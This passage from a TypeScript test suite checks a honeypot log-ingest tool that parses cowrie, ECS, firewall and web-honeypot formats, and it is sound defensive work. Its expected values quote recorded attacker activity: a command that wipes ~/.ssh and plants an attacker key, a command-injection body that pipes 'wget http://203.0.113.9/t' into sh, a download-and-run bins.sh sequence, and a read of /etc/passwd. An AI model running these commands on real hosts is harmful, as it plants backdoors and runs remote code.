/**
 * Ingest of every input format, on small hand-written fixtures (test/fixtures, documentation
 * address ranges only) and on files generated at test time into a temp dir (gzip, oversized
 * lines and fields, directories).
 */
import { afterAll, beforeAll, describe, expect, test } from "bun:test"
import { createHash } from "node:crypto"
import { copyFileSync, mkdirSync, mkdtempSync, readFileSync, rmSync, statSync, symlinkSync, writeFileSync } from "node:fs"
import { tmpdir } from "node:os"
import { join, resolve } from "node:path"
import { constants as zlibConstants, gunzipSync, gzipSync } from "node:zlib"
import type { AttackSession } from "../../src/domain/AttackSession.ts"
import { ingest, IngestFailure, type IngestReport } from "../../src/ingest/ingest.ts"
import { MAX_LINE_CHARS } from "../../src/ingest/readLines.ts"
import { MAX_FIELD_CHARS } from "../../src/ingest/validate.ts"
import { Prng } from "../../src/analytics/Prng.ts"

const FIXTURES = resolve(import.meta.dir, "../fixtures")
const fixture = (name: string): string => join(FIXTURES, name)

let tmp = ""
beforeAll(() => {
  tmp = mkdtempSync(join(tmpdir(), "dshield-ingest-formats-"))
})
afterAll(() => {
  if (tmp !== "") rmSync(tmp, { recursive: true, force: true })
})

const sessionById = (report: IngestReport, id: string): AttackSession => {
  const found = report.sessions.find((s) => s.id === id)
  if (found === undefined) throw new Error(`no session ${id}; have ${report.sessions.map((s) => s.id).join(", ")}`)
  return found
}

const sessionsFrom = (report: IngestReport, srcIp: string): Array<AttackSession> =>
  report.sessions.filter((s) => s.src_ip === srcIp)

const only = <T>(items: ReadonlyArray<T>): T => {
  expect(items.length).toBe(1)
  return items[0]!
}

const sha256 = (bytes: Uint8Array): string => createHash("sha256").update(bytes).digest("hex")

/** The engine's seeded generator, as a plain function: the same inputs on every run. */
const prng = (seed: number): (() => number) => {
  const rng = new Prng(seed)
  return () => rng.next()
}

const KEY_BODY = "AAAAB3NzaC1yc2EAAAADAQABAAABAQC0fakeKeyForUnitTestsOnly0123456789abcdefghijklmnop"

describe("cowrie JSON lines (cowrie.json)", () => {
  let report: IngestReport
  beforeAll(async () => {
    report = await ingest([fixture("cowrie.json")], { format: "auto" })
  })

  test("detects the format and describes the file exactly", () => {
    const file = only(report.files)
    const raw = readFileSync(fixture("cowrie.json"))
    expect(file.format).toBe("cowrie")
    expect(file.path).toBe(fixture("cowrie.json"))
    expect(file.lines).toBe(24)
    expect(file.events).toBe(24)
    expect(file.bytes).toBe(raw.length)
    expect(file.sha256).toBe(sha256(raw))
  })

  test("keeps every event, rejects nothing, and counts the unknown eventid (not the known virustotal one)", () => {
    expect(report.events).toBe(24)
    expect(report.rejects.total).toBe(0)
    expect(report.rejects.toRecord()).toEqual({})
    expect(report.unknownEventIds).toEqual({ "cowrie.foo.bar": 2 })
    expect(report.skippedFiles).toEqual([])
  })

  test("one session per cowrie session id, sorted by start time", () => {
    expect(report.sessions.map((s) => s.id)).toEqual(["0c1d2e3f4a5b", "3f2a9c1d7e45", "b7e0c4d2a918"])
    for (const s of report.sessions) expect(s.id).toMatch(/^[0-9a-f]{12}$/)
    expect(report.sessions.map((s) => s.event_count)).toEqual([6, 13, 5])
  })

  test("SSH session with logins, commands, download and planted key", () => {
    const s = sessionById(report, "3f2a9c1d7e45")
    expect(s.protocol).toBe("ssh")
    expect(s.sensor).toBe("honeypot-ams-1")
    expect(s.src_ip).toBe("203.0.113.45")
    expect(s.src_port).toBe(50122)
    expect(s.dst_ip).toBe("192.0.2.10")
    expect(s.dst_port).toBe(2222)
    expect(s.start).toBe("2024-04-01T20:01:05.690Z")
    expect(s.end).toBe("2024-04-01T20:01:15.002Z")
    expect(s.client_version).toBe("SSH-2.0-Go")
    expect(s.hassh).toBe("4e066189c3bbeec38c99b1855113733a")
    expect(s.credentials).toEqual([
      { username: "root", password: "123456", success: false },
      { username: "root", password: "admin", success: false },
      { username: "root", password: "P@ssw0rd", success: true }
    ])
    expect(s.commands).toEqual([
      "uname -a",
      `cd ~ && rm -rf .ssh && mkdir .ssh && echo "ssh-rsa ${KEY_BODY} mdrfckr" >> ~/.ssh/authorized_keys && chmod -R go= ~/.ssh`
    ])
    // The key is type + body; the operator's comment ("mdrfckr") is dropped.
    expect(s.ssh_keys_added).toEqual([`ssh-rsa ${KEY_BODY}`])
    // shasum is upper case in the log; the session carries it lower-cased.
    expect(s.downloads).toEqual([{
      url: "http://192.0.2.200/bins/x86_64",
      sha256: "9f86d081884c7d659a2feaa0c55ad015a3bf4f1b2b0b822cd15d6c15b0f00a08",
      filename: "x86_64"
    }])
    expect(s.uploads).toEqual([])
    expect(s.tcpip_forwards).toEqual([])
    expect(s.http_requests).toEqual([])
    expect(s.user_agent).toBeNull()
  })

  test("direct-tcpip proxy session: distinct forward targets in order; IPv4-mapped source becomes IPv4", () => {
    const s = sessionById(report, "0c1d2e3f4a5b")
    expect(s.src_ip).toBe("198.51.100.7")
    expect(s.protocol).toBe("ssh")
    // request + data to example.com:443 count once.
    expect(s.tcpip_forwards).toEqual(["example.com:443", "203.0.113.80:25"])
    expect(s.credentials).toEqual([{ username: "root", password: "admin123", success: true }])
    expect(s.commands).toEqual([])
    expect(s.start).toBe("2024-04-01T20:00:30.104Z")
    expect(s.end).toBe("2024-04-01T20:00:40.211Z")
  })

  test("telnet session over IPv6: address lower-cased, numeric password kept as text, empty password kept", () => {
    const s = sessionById(report, "b7e0c4d2a918")
    expect(s.protocol).toBe("telnet")
    expect(s.src_ip).toBe("2001:db8:85a3::8a2e:370:7334")
    expect(s.dst_ip).toBe("2001:db8::10")
    expect(s.dst_port).toBe(2223)
    expect(s.credentials).toEqual([
      { username: "admin", password: "12345", success: false },
      { username: "admin", password: "", success: true }
    ])
  })

  test("a gzip copy gives the same sessions; size and digest are those of the compressed bytes", async () => {
    const gz = gzipSync(readFileSync(fixture("cowrie.json")))
    const path = join(tmp, "cowrie.json.gz")
    writeFileSync(path, gz)
    const zipped = await ingest([path], { format: "auto" })
    expect(zipped.sessions).toEqual(report.sessions)
    expect(zipped.events).toBe(24)
    expect(zipped.rejects.toRecord()).toEqual({})
    const file = only(zipped.files)
    expect(file.format).toBe("cowrie")
    expect(file.bytes).toBe(gz.length)
    expect(file.sha256).toBe(sha256(gz))
    expect(file.lines).toBe(24)
  })

  test("progress callback ends with the total raw bytes and events", async () => {
    const calls: Array<[number, number]> = []
    await ingest([fixture("cowrie.json"), fixture("webhoneypot.json")], {
      format: "auto",
      onProgress: (bytes, events) => calls.push([bytes, events])
    })
    const total = statSync(fixture("cowrie.json")).size + statSync(fixture("webhoneypot.json")).size
    expect(calls.at(-1)).toEqual([total, 24 + 7])
  })
})

describe("ECS documents (ecs.jsonl: hits and bare documents, nested and dotted keys)", () => {
  let report: IngestReport
  beforeAll(async () => {
    report = await ingest([fixture("ecs.jsonl")], { format: "auto" })
  })

  test("format, counts, no rejects", () => {
    const file = only(report.files)
    expect(file.format).toBe("ecs")
    expect(file.lines).toBe(10)
    expect(file.events).toBe(10)
    expect(report.events).toBe(10)
    expect(report.rejects.toRecord()).toEqual({})
    expect(report.unknownEventIds).toEqual({})
    expect(report.sessions.map((s) => s.id)).toEqual(["c0ffee000001", "c0ffee000002"])
    expect(report.sessions.map((s) => s.event_count)).toEqual([7, 3])
  })

  test("DShield-SIEM field names map back onto the session (source.address, process.name, ssh.client, file.hash)", () => {
    const s = sessionById(report, "c0ffee000001")
    expect(s.src_ip).toBe("192.0.2.61")
    expect(s.src_port).toBe(51514)
    expect(s.dst_ip).toBe("198.51.100.1")
    expect(s.dst_port).toBe(22)
    expect(s.protocol).toBe("ssh")
    expect(s.client_version).toBe("SSH-2.0-libssh2_1.10.0")
    expect(s.hassh).toBe("92674389fa1e47a27ddd8d9b63ecd42b")
    expect(s.credentials).toEqual([
      { username: "pi", password: "raspberry", success: false },
      { username: "root", password: "toor", success: true }
    ])
    expect(s.commands).toEqual(["cat /proc/cpuinfo | grep name | wc -l"])
    expect(s.downloads).toEqual([{
      url: "http://203.0.113.9/bins/mips",
      sha256: "2c26b46b68ffc68ff99b453c1d30413413422d706483bfa0f98a5e886266e7ae",
      filename: "var/lib/cowrie/downloads/2c26b46b68ffc68ff99b453c1d30413413422d706483bfa0f98a5e886266e7ae"
    }])
    expect(s.start).toBe("2024-04-04T06:00:00.125Z")
    expect(s.end).toBe("2024-04-04T06:00:07.031Z")
  })

  test("nested hit with an uncompressed IPv6 source; eventid with and without the cowrie. prefix", () => {
    const s = sessionById(report, "c0ffee000002")
    expect(s.src_ip).toBe("2001:db8::7")
    expect(s.protocol).toBe("telnet")
    expect(s.dst_port).toBe(23)
    expect(s.credentials).toEqual([{ username: "support", password: "support", success: false }])
  })

  test("a pretty-printed _search response (ecs-search.json) is read as one document", async () => {
    const r = await ingest([fixture("ecs-search.json")], { format: "auto" })
    const file = only(r.files)
    expect(file.format).toBe("ecs")
    expect(file.events).toBe(5)
    expect(r.events).toBe(5)
    expect(r.rejects.toRecord()).toEqual({})
    expect(r.sessions.map((s) => [s.id, s.event_count])).toEqual([["5e55e55e5001", 4], ["5e55e55e5002", 1]])
    const first = sessionById(r, "5e55e55e5001")
    expect(first.src_ip).toBe("203.0.113.201")
    expect(first.protocol).toBe("ssh")
    expect(first.credentials).toEqual([
      { username: "ubuntu", password: "ubuntu", success: false },
      { username: "root", password: "1qaz2wsx", success: true }
    ])
    expect(first.commands).toEqual(["echo -e \"\\x6F\\x6B\""])
    const second = sessionById(r, "5e55e55e5002")
    expect(second.src_ip).toBe("192.0.2.99")
    expect(second.protocol).toBe("telnet")
    expect(second.dst_port).toBe(2223)
  })

  test("cowrie logs passed through DShield-SIEM's renames give the same sessions as the raw logs", async () => {
    // The renames of DShield-SIEM's logstash cowrie filter (it also drops `sensor`).
    const rename: Record<string, string> = {
      src_ip: "source.address",
      dst_ip: "destination.address",
      src_port: "source.port",
      dst_port: "destination.port",
      destfile: "file.path",
      shasum: "file.hash.sha256",
      hassh: "ssh.client",
      username: "user.name",
      password: "user.password",
      session: "event.code",
      protocol: "network.protocol",
      url: "url.original",
      version: "process.name",
      filename: "file.name",
      message: "event.original"
    }
    const lines = readFileSync(fixture("cowrie.json"), "utf8").trim().split("\n").map((line) => {
      const o = JSON.parse(line) as Record<string, unknown>
      const doc: Record<string, unknown> = {
        "@timestamp": new Date(Date.parse(o.timestamp as string)).toISOString(),
        "event.outcome": (o.eventid as string).replace(/^cowrie\./, ""),
        "event.dataset": "honeypot"
      }
      for (const [k, v] of Object.entries(o)) {
        if (k === "eventid" || k === "timestamp" || k === "sensor") continue
        doc[rename[k] ?? k] = v
      }
      return JSON.stringify({ _index: "cowrie", _source: doc })
    })
    const path = join(tmp, "cowrie-as-ecs.jsonl")
    writeFileSync(path, lines.join("\n") + "\n")
    const viaEcs = await ingest([path], { format: "auto" })
    const raw = await ingest([fixture("cowrie.json")], { format: "auto" })
    expect(only(viaEcs.files).format).toBe("ecs")
    expect(viaEcs.events).toBe(raw.events)
    expect(viaEcs.unknownEventIds).toEqual(raw.unknownEventIds)
    expect(viaEcs.sessions).toEqual(raw.sessions.map((s) => ({ ...s, sensor: null })))
  })
})

describe("DShield iptables firewall log (firewall.log)", () => {
  let report: IngestReport
  beforeAll(async () => {
    report = await ingest([fixture("firewall.log")], { format: "auto", syslogYear: 2024 })
  })

  test("format, counts and the one non-firewall kernel line", () => {
    const file = only(report.files)
    expect(file.format).toBe("firewall")
    expect(file.lines).toBe(10)
    expect(file.events).toBe(9)
    expect(report.events).toBe(9)
    expect(report.rejects.toRecord()).toEqual({ unparseable_line: 1 })
    expect(report.rejects.samples.map((s) => [s.reason, s.line])).toEqual([["unparseable_line", 5]])
    expect(report.sessions.length).toBe(5)
    for (const s of report.sessions) expect(s.id).toMatch(/^fw-[0-9a-f]{16}$/)
  })

  test("epoch, ISO-with-offset and syslog lines of one source form sessions split at gaps over 30 minutes", () => {
    const a = sessionsFrom(report, "203.0.113.50")
    expect(a.length).toBe(2)
    const [first, second] = [a[0]!, a[1]!]
    // 20:00 (epoch), 20:10 (epoch), 22:25+02:00 = 20:25Z (ISO), 20:55 (syslog): the last gap is
    // exactly 30:00 and still joins.
    expect(first.event_count).toBe(4)
    expect(first.start).toBe("2024-04-01T20:00:00.000Z")
    expect(first.end).toBe("2024-04-01T20:55:00.000Z")
    expect(first.protocol).toBe("tcp")
    expect(first.src_port).toBe(52388)
    expect(first.dst_ip).toBe("192.0.2.10")
    expect(first.dst_port).toBe(23)
    // 21:25:01 is 30:01 after 20:55: a new session.
    expect(second.event_count).toBe(1)
    expect(second.start).toBe("2024-04-01T21:25:01.000Z")
    expect(second.id).not.toBe(first.id)
  })

  test("UDP and ICMP protocols; ICMP has no ports", () => {
    const udp = only(sessionsFrom(report, "198.51.100.23"))
    expect(udp.protocol).toBe("udp")
    expect(udp.dst_port).toBe(123)
    expect(udp.start).toBe("2024-04-01T20:05:00.000Z")
    const icmp = only(sessionsFrom(report, "192.0.2.200"))
    expect(icmp.protocol).toBe("icmp")
    expect(icmp.src_port).toBeNull()
    expect(icmp.dst_port).toBeNull()
  })

  test("IPv6: the kernel's uncompressed spelling and a compressed upper-case one are one host", () => {
    const v6 = only(report.sessions.filter((s) => s.src_ip?.includes(":") === true))
    expect(v6.src_ip).toBe("2001:db8::beef")
    expect(v6.dst_ip).toBe("2001:db8::10")
    expect(v6.event_count).toBe(2)
    expect(v6.dst_port).toBe(22)
  })

  test("derived ids are stable: same across runs and independent of the other lines", async () => {
    const again = await ingest([fixture("firewall.log")], { format: "auto", syslogYear: 2024 })
    expect(again.sessions.map((s) => s.id)).toEqual(report.sessions.map((s) => s.id))
    const aOnly = readFileSync(fixture("firewall.log"), "utf8").split("\n").filter((l) => l.includes("SRC=203.0.113.50 "))
    expect(aOnly.length).toBe(5)
    const path = join(tmp, "firewall-a-only.log")
    writeFileSync(path, aOnly.join("\n") + "\n")
    const alone = await ingest([path], { format: "firewall", syslogYear: 2024 })
    expect(alone.sessions.map((s) => s.id)).toEqual(sessionsFrom(report, "203.0.113.50").map((s) => s.id))
  })

  test("without syslogYear the yearless syslog lines are rejected, not guessed", async () => {
    const r = await ingest([fixture("firewall.log")], { format: "auto" })
    expect(r.rejects.toRecord()).toEqual({ timestamp_without_year: 2, unparseable_line: 1 })
    expect(r.events).toBe(7)
    // 203.0.113.50 now has 20:00, 20:10, 20:25 and 21:25:01: the 60-minute gap splits it.
    expect(sessionsFrom(r, "203.0.113.50").map((s) => s.event_count)).toEqual([3, 1])
    expect(sessionsFrom(r, "198.51.100.23")).toEqual([])
  })

  test("a custom session gap changes the split", async () => {
    const r = await ingest([fixture("firewall.log")], { format: "auto", syslogYear: 2024, sessionGapMs: 10 * 60 * 1000 })
    // Gaps 10:00 (joins), then 15:00, 30:00 and 30:01 (each splits): four sessions for 203.0.113.50.
    expect(sessionsFrom(r, "203.0.113.50").map((s) => s.event_count)).toEqual([2, 1, 1, 1])
  })
})

describe("DShield web honeypot JSON lines (webhoneypot.json)", () => {
  let report: IngestReport
  beforeAll(async () => {
    report = await ingest([fixture("webhoneypot.json")], { format: "auto" })
  })

  test("format, counts, the one bad source address", () => {
    const file = only(report.files)
    expect(file.format).toBe("webhoneypot")
    expect(file.lines).toBe(8)
    expect(file.events).toBe(7)
    expect(report.events).toBe(7)
    expect(report.rejects.toRecord()).toEqual({ bad_ip: 1 })
    expect(report.rejects.samples.map((s) => [s.reason, s.line])).toEqual([["bad_ip", 6]])
    expect(report.sessions.length).toBe(5)
    for (const s of report.sessions) {
      expect(s.id).toMatch(/^web-[0-9a-f]{16}$/)
      expect(s.protocol).toBe("http")
    }
  })

  test("sessions are per source IP and user agent", () => {
    const fromIp = sessionsFrom(report, "198.51.100.77")
    expect(fromIp.map((s) => s.user_agent)).toEqual(["Mozilla/5.0 zgrab/0.x", "python-requests/2.31.0"])
    const zgrab = fromIp[0]!
    expect(zgrab.event_count).toBe(3)
    expect(zgrab.http_requests).toEqual(["GET /", "GET /.env", "POST /cgi-bin/luci/;stok=/locale?form=country"])
    // The request body is the session's command.
    expect(zgrab.commands).toEqual(["operation=write&country=$(id>`wget http://203.0.113.9/t -O- | sh`)"])
    expect(zgrab.dst_ip).toBe("192.0.2.10")
    expect(zgrab.start).toBe("2024-04-02T10:00:00.123Z")
    expect(zgrab.end).toBe("2024-04-02T10:01:00.000Z")
    expect(fromIp[1]!.http_requests).toEqual(["GET /admin/config.php"])
  })

  test("user agent from headers in any case; a 45-minute silence splits the source", () => {
    const curl = sessionsFrom(report, "203.0.113.99")
    expect(curl.length).toBe(2)
    expect(curl.map((s) => s.user_agent)).toEqual(["curl/8.4.0", "curl/8.4.0"])
    expect(curl.map((s) => s.start)).toEqual(["2024-04-02T11:00:00.000Z", "2024-04-02T11:45:00.000Z"])
    expect(curl[0]!.commands).toEqual([])
  })

  test("IPv4-mapped source address becomes IPv4", () => {
    const go = only(sessionsFrom(report, "192.0.2.44"))
    expect(go.user_agent).toBe("Go-http-client/1.1")
    expect(go.http_requests).toEqual(["GET /actuator/health"])
  })
})

describe("earlier engine's request body (sessions.json)", () => {
  let report: IngestReport
  beforeAll(async () => {
    report = await ingest([fixture("sessions.json")], { format: "auto" })
  })

  test("format, counts, the bad element located by its index", () => {
    const file = only(report.files)
    expect(file.format).toBe("sessions")
    expect(file.events).toBe(4)
    expect(report.events).toBe(4)
    expect(report.rejects.toRecord()).toEqual({ bad_ip: 1 })
    expect(report.rejects.samples).toEqual([{ reason: "bad_ip", file: fixture("sessions.json"), line: 4, excerpt: "element 4" }])
    expect(report.sessions.length).toBe(4)
  })

  test("each element is a session; a duplicate element gets the same id with an occurrence suffix", () => {
    const ids = report.sessions.map((s) => s.id)
    for (const id of ids) expect(id).toMatch(/^req-[0-9a-f]{16}(-\d+)?$/)
    const dup = sessionsFrom(report, "203.0.113.5")
    expect(dup.length).toBe(2)
    const [a, b] = [dup[0]!, dup[1]!]
    expect(b.id).toBe(`${a.id}-2`)
    expect(b.commands).toEqual(a.commands)
    // Payload lines become commands.
    expect(a.commands).toEqual(["wget http://198.51.100.20/bins.sh", "chmod +x bins.sh", "./bins.sh"])
    expect(a.protocol).toBe("ssh")
    expect(a.dst_port).toBe(22)
    expect(a.start).toBe("2024-04-03T08:00:00.000Z")
  })

  test("epoch-second timestamps, upper-case protocol and IPv6 are normalised; empty payload has no command", () => {
    const v6 = only(sessionsFrom(report, "2001:db8::5"))
    expect(v6.start).toBe("2024-04-03T08:01:00.000Z")
    expect(v6.protocol).toBe("http")
    expect(v6.dst_port).toBe(80)
    const telnet = only(sessionsFrom(report, "192.0.2.8"))
    expect(telnet.protocol).toBe("telnet")
    expect(telnet.commands).toEqual([])
  })

  test("ids are content-derived: the same body gives the same ids", async () => {
    const again = await ingest([fixture("sessions.json")], { format: "sessions" })
    expect(again.sessions.map((s) => s.id)).toEqual(report.sessions.map((s) => s.id))
  })
})

describe("bad lines are counted by reason and never stop the file (garbage-mixed.json)", () => {
  const GOOD_EVENTS = 9
  const BASE_REJECTS = {
    bad_ip: 1,
    bad_port: 1,
    bad_timestamp: 1,
    malformed_json: 2,
    missing_eventid: 1,
    missing_session: 1,
    not_an_object: 1
  }

  const checkGoodSessions = (r: IngestReport): void => {
    // deadbeef0bad and deadbeef0003 exist only in rejected lines: no session for them.
    expect(r.sessions.map((s) => [s.id, s.event_count])).toEqual([["deadbeef0001", 5], ["deadbeef0002", 4]])
    const g1 = sessionById(r, "deadbeef0001")
    // The login on 2024-02-30 is rejected; the CRLF-terminated command is kept without its \r.
    expect(g1.credentials).toEqual([
      { username: "root", password: "root", success: false },
      { username: "root", password: "toor", success: true }
    ])
    expect(g1.commands).toEqual(["cat /etc/passwd"])
    expect(sessionById(r, "deadbeef0002").protocol).toBe("telnet")
  }

  test("the committed fixture", async () => {
    const r = await ingest([fixture("garbage-mixed.json")], { format: "auto" })
    expect(only(r.files).format).toBe("cowrie")
    expect(only(r.files).lines).toBe(18)
    expect(r.events).toBe(GOOD_EVENTS)
    expect(r.rejects.toRecord()).toEqual(BASE_REJECTS)
    expect(r.rejects.samples.map((s) => [s.line, s.reason])).toEqual([
      [3, "malformed_json"],
      [4, "malformed_json"],
      [6, "bad_ip"],
      [7, "bad_timestamp"],
      [10, "not_an_object"],
      [11, "missing_session"],
      [12, "missing_eventid"],
      [13, "bad_port"]
    ])
    checkGoodSessions(r)
  })

  test("plus a field over 64 KiB and a line over 1 MiB, generated into a temp dir", async () => {
    const lines = readFileSync(fixture("garbage-mixed.json"), "utf8").split("\n")
    const bigField = JSON.stringify({
      eventid: "cowrie.command.input",
      input: `echo ${"A".repeat(MAX_FIELD_CHARS + 10)}`,
      timestamp: "2024-04-06T12:00:09.500000Z",
      src_ip: "192.0.2.77",
      session: "deadbeef0001"
    })
    const hugeLine = JSON.stringify({
      eventid: "cowrie.command.input",
      input: "B".repeat(MAX_LINE_CHARS + 1000),
      timestamp: "2024-04-06T12:00:09.600000Z",
      src_ip: "192.0.2.77",
      session: "deadbeef0001"
    })
    // After line 8 of the fixture: the oversized field becomes line 9, the huge line line 10.
    lines.splice(8, 0, bigField, hugeLine)
    const path = join(tmp, "garbage-big.json")
    writeFileSync(path, lines.join("\n"))
    const r = await ingest([path], { format: "auto" })
    expect(r.events).toBe(GOOD_EVENTS)
    expect(r.rejects.toRecord()).toEqual({ ...BASE_REJECTS, field_too_large: 1, line_too_long: 1 })
    const bySample = new Map(r.rejects.samples.map((s) => [s.reason, s]))
    expect(bySample.get("field_too_large")?.line).toBe(9)
    expect(bySample.get("line_too_long")?.line).toBe(10)
    for (const s of r.rejects.samples) expect(s.excerpt.length).toBeLessThanOrEqual(120)
    checkGoodSessions(r)
  })

  test("a CRLF copy gives the same result: the blank line stays blank, excerpts carry no \\r", async () => {
    const text = readFileSync(fixture("garbage-mixed.json"), "utf8").replace(/\r?\n/g, "\r\n")
    const path = join(tmp, "garbage-crlf.json")
    writeFileSync(path, text)
    const r = await ingest([path], { format: "auto" })
    expect(r.events).toBe(GOOD_EVENTS)
    expect(r.rejects.toRecord()).toEqual(BASE_REJECTS)
    expect(r.rejects.samples.find((s) => s.line === 4)?.excerpt).toBe("this line is not JSON at all")
    checkGoodSessions(r)
  })

  test("an over-long first line does not hide the format of the rest of the file", async () => {
    const huge = `{"eventid":"cowrie.command.input","input":"${"C".repeat(MAX_LINE_CHARS + 10)}"}`
    const path = join(tmp, "garbage-huge-first.json")
    writeFileSync(path, huge + "\n" + readFileSync(fixture("garbage-mixed.json"), "utf8"))
    const r = await ingest([path], { format: "auto" })
    expect(only(r.files).format).toBe("cowrie")
    expect(r.events).toBe(GOOD_EVENTS)
    expect(r.rejects.toRecord()).toEqual({ ...BASE_REJECTS, line_too_long: 1 })
    expect(r.rejects.samples[0]).toMatchObject({ reason: "line_too_long", line: 1 })
    checkGoodSessions(r)
  })

  test("a file forced to the wrong format rejects its lines instead of failing", async () => {
    const r = await ingest([fixture("firewall.log")], { format: "cowrie" })
    expect(r.events).toBe(0)
    expect(r.rejects.toRecord()).toEqual({ malformed_json: 10 })
    expect(only(r.files).format).toBe("cowrie")
  })
})

describe("gzip streams cut short", () => {
  /** `n` cowrie lines with incompressible inputs, so the deflate stream has many blocks. */
  const generated = (n: number): Array<string> => {
    const rand = prng(20240401)
    const out: Array<string> = []
    for (let i = 0; i < n; i++) {
      let noise = ""
      for (let k = 0; k < 6; k++) noise += Math.floor(rand() * 0x100000000).toString(16).padStart(8, "0")
      out.push(JSON.stringify({
        eventid: "cowrie.command.input",
        input: `echo ${noise}`,
        timestamp: new Date(Date.UTC(2024, 3, 1) + i * 1000).toISOString(),
        src_ip: `198.51.100.${(i % 50) + 1}`,
        session: `cafe${(i % 50).toString(16).padStart(8, "0")}`
      }))
    }
    return out
  }

  test("the lines before the cut are kept and the truncation is counted", async () => {
    const lines = generated(4000)
    const gz = gzipSync(Buffer.from(lines.join("\n") + "\n"))
    const cut = gz.subarray(0, Math.floor(gz.length * 0.6))
    const path = join(tmp, "cut.json.gz")
    writeFileSync(path, cut)
    // What a decoder can recover from the cut stream: complete lines, then maybe a partial one.
    const recovered = gunzipSync(cut, { finishFlush: zlibConstants.Z_SYNC_FLUSH }).toString("utf8")
    const complete = recovered.split("\n").length - 1
    const partialTail = recovered.length - recovered.lastIndexOf("\n") - 1
    expect(complete).toBeGreaterThan(1000)
    expect(complete).toBeLessThan(4000)
    expect(recovered.slice(0, recovered.lastIndexOf("\n"))).toBe(lines.slice(0, complete).join("\n"))

    const r = await ingest([path], { format: "auto" })
    expect(r.events).toBe(complete)
    expect(r.rejects.toRecord()).toEqual(
      partialTail > 0 ? { malformed_json: 1, truncated_gzip: 1 } : { truncated_gzip: 1 }
    )
    const file = only(r.files)
    expect(file.format).toBe("cowrie")
    expect(file.bytes).toBe(cut.length)
    expect(file.lines).toBe(complete + (partialTail > 0 ? 1 : 0))
    // Exactly the first `complete` lines: event counts add up and the last kept line ends the data.
    expect(r.sessions.reduce((n, s) => n + s.event_count, 0)).toBe(complete)
    const lastEnd = r.sessions.reduce((m, s) => (s.end > m ? s.end : m), "")
    expect(lastEnd).toBe(new Date(Date.UTC(2024, 3, 1) + (complete - 1) * 1000).toISOString())
  })

  test("a stream cut inside its first block is counted, not silently dropped", async () => {
    const gz = gzipSync(readFileSync(fixture("cowrie.json")))
    const path = join(tmp, "cut-early.json.gz")
    writeFileSync(path, gz.subarray(0, 30))
    const r = await ingest([path], { format: "auto" })
    expect(r.events).toBe(0)
    expect(r.rejects.toRecord()).toEqual({ truncated_gzip: 1 })
    expect(r.skippedFiles.map((f) => f.path)).toEqual([path])
  })
})

describe("inputs: directories, unknown formats, missing paths", () => {
  test("a directory is walked in name order; README.txt is skipped with a reason, dotfiles ignored", async () => {
    const dir = join(tmp, "sensor-export")
    mkdirSync(join(dir, "web"), { recursive: true })
    copyFileSync(fixture("cowrie.json"), join(dir, "cowrie.json"))
    copyFileSync(fixture("firewall.log"), join(dir, "dshield.log"))
    copyFileSync(fixture("webhoneypot.json"), join(dir, "web", "webhoneypot.json"))
    writeFileSync(join(dir, "README.txt"), "Logs exported from sensor fra-2.\nCopy them to the analysis host.\n")
    writeFileSync(join(dir, ".hidden.json"), "not a log\n")
    const r = await ingest([dir], { format: "auto", syslogYear: 2024 })
    expect(r.files.map((f) => [f.path, f.format])).toEqual([
      [join(dir, "cowrie.json"), "cowrie"],
      [join(dir, "dshield.log"), "firewall"],
      [join(dir, "web", "webhoneypot.json"), "webhoneypot"]
    ])
    expect(r.skippedFiles.map((f) => f.path)).toEqual([join(dir, "README.txt")])
    expect(r.skippedFiles[0]!.reason).toContain("no known format")
    expect(r.events).toBe(24 + 9 + 7)
    expect(r.sessions.length).toBe(3 + 5 + 5)
    expect(r.rejects.toRecord()).toEqual({ bad_ip: 1, unparseable_line: 1 })
  })

  test("in a directory, a link to a file is read; links to directories, dangling links, loops and pipes are skipped with a reason", async () => {
    const dir = join(tmp, "linked-logs")
    mkdirSync(join(dir, "archive"), { recursive: true })
    copyFileSync(fixture("cowrie.json"), join(dir, "archive", "cowrie.json.2024-04-01"))
    symlinkSync(join(dir, "archive", "cowrie.json.2024-04-01"), join(dir, "cowrie.json"))
    symlinkSync(dir, join(dir, "back-up"))
    symlinkSync(join(dir, "nowhere"), join(dir, "dangling"))
    symlinkSync(join(dir, "loop"), join(dir, "loop"))
    expect(Bun.spawnSync(["mkfifo", join(dir, "pipe")]).exitCode).toBe(0)
    const r = await ingest([dir], { format: "auto" })
    // The link and its target hold the same bytes: read once, under the first name.
    expect(r.files.map((f) => f.path)).toEqual([join(dir, "archive", "cowrie.json.2024-04-01")])
    expect(r.events).toBe(24)
    const reasons = new Map(r.skippedFiles.map((f) => [f.path, f.reason]))
    expect(reasons.get(join(dir, "back-up"))).toContain("a symbolic link to a directory, not followed")
    expect(reasons.get(join(dir, "dangling"))).toContain("leads nowhere readable (ENOENT)")
    expect(reasons.get(join(dir, "loop"))).toContain("leads nowhere readable (ELOOP)")
    expect(reasons.get(join(dir, "pipe"))).toContain("no regular file")
    expect(reasons.get(join(dir, "cowrie.json"))).toContain("the same bytes as")
  })

  test("an explicitly named file of unknown format is an IngestFailure naming the file", async () => {
    const path = join(tmp, "README.txt")
    writeFileSync(path, "Logs exported from sensor fra-2.\n")
    const attempt = ingest([path], { format: "auto" })
    await expect(attempt).rejects.toBeInstanceOf(IngestFailure)
    await expect(ingest([path], { format: "auto" })).rejects.toMatchObject({ path })
    await expect(ingest([path], { format: "auto" })).rejects.toThrow(/Cannot tell the format/)
  })

  test("a missing path is an IngestFailure", async () => {
    const path = join(tmp, "does-not-exist.json")
    await expect(ingest([path], { format: "auto" })).rejects.toBeInstanceOf(IngestFailure)
    await expect(ingest([path], { format: "auto" })).rejects.toThrow(/does not exist/)
  })

  test("several files of different formats in one run", async () => {
    const r = await ingest([fixture("cowrie.json"), fixture("ecs.jsonl"), fixture("sessions.json")], { format: "auto" })
    expect(r.files.map((f) => f.format)).toEqual(["cowrie", "ecs", "sessions"])
    expect(r.events).toBe(24 + 10 + 4)
    expect(r.sessions.length).toBe(3 + 2 + 4)
    // Sorted by start time across formats.
    const starts = r.sessions.map((s) => s.start)
    expect(starts).toEqual([...starts].sort())
  })
})

describe("documents on one line and blank-ish lines", () => {
  const dir = mkdtempSync(join(tmpdir(), "dshield-doc-"))

  test("a compact _search response over 1 MiB on one line is read as a document", async () => {
    const hits = Array.from({ length: 6000 }, (_, i) => ({
      _source: {
        "@timestamp": "2024-04-01T00:00:00Z",
        event: { code: `sess${i % 100}`, outcome: "login.failed" },
        source: { ip: "192.0.2.1" },
        user: { name: "root", password: "x".repeat(150) }
      }
    }))
    const path = join(dir, "search.json")
    writeFileSync(path, JSON.stringify({ took: 1, hits: { hits } }))
    const report = await ingest([path], { format: "auto" })
    expect(report.files[0]!.format).toBe("ecs")
